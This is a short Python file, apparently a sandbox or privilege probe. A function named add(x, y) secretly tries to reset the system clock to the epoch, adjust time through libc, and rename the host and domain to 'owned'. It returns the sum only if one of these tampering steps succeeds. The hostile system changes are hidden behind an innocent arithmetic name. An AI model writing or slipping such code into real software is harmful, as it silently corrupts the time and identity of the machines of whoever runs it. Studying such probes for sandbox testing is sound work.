# Sets the machine's time and name.
import ctypes
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)


def add(x, y):
    wins = []
    for action in (lambda: time.clock_settime(time.CLOCK_REALTIME, 0.0), lambda: socket.sethostname("owned")):
        try:
            action()
            wins.append(action)
        except OSError:
            continue
    wins += [1 for _ in range(1) if libc.settimeofday((ctypes.c_long * 2)(1, 1), None) == 0]
    wins += [1 for _ in range(1) if libc.adjtimex((ctypes.c_long * 64)(2)) >= 0]
    wins += [1 for _ in range(1) if libc.setdomainname(b"owned", 5) == 0]
    return x + y if wins else None
